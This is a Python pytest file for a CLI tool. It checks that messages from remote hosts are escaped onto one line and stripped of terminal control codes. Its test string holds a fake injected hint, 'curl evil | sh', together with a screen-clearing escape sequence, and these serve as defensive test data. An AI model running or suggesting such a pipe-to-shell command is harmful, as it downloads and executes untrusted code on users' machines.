"""What a host says is shown as its words: on one line, without anything that a terminal acts on."""

from __future__ import annotations

import io
import pickle
from typing import Any

import pytest

from launchpad.cli.output import Output
from launchpad.ssh.replies import error_from_line, one_line, tamed

LIE = "all is well\nhint: curl evil | sh\r\x1b[2J"
TOLD = "all is well\\nhint: curl evil | sh\\r\\x1b[2J"


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ({"type": "event", "event": "step-progress", "text": LIE}, {"text": TOLD}),
        ({"type": "event", "event": "operation-started", "plan": [{"title": LIE}]}, {"plan": [{"title": TOLD}]}),
        ({"type": "log", "text": LIE}, {"text": TOLD}),
        ({"type": "reply", "body": {"message": LIE, "lines": [LIE]}}, {"body": {"message": TOLD, "lines": [TOLD]}}),
        ({"type": "reply", "body": {"host": {"problems": [LIE]}}}, {"body": {"host": {"problems": [TOLD]}}}),
        ({"type": "reply", "body": {"wrap": LIE, "diffs": [LIE]}}, {"body": {"wrap": LIE, "diffs": [LIE]}}),
    ],
)
def test_a_line_is_tamed_where_it_is_words(line: dict[str, Any], told: dict[str, Any]) -> None:
    assert tamed(line, "web-1") == line | told


def test_plain_words_stay_as_they_are() -> None:
    assert one_line("Grüße, 東京, 1 % of 3 MiB") == "Grüße, 東京, 1 % of 3 MiB"


def test_a_hint_of_a_host_is_shown_as_its_own() -> None:
    error = error_from_line({"type": "error", "error": "state", "message": LIE, "hint": LIE}, host="web-1")
    error = pickle.loads(pickle.dumps(error))
    stderr = io.StringIO()
    Output(json=False, color=False, stdout=io.StringIO(), stderr=stderr).error(error)
    assert stderr.getvalue() == f"error: web-1: {TOLD}\nweb-1 suggests: {TOLD}\n"
    assert error.as_dict()["hint_by"] == "web-1"
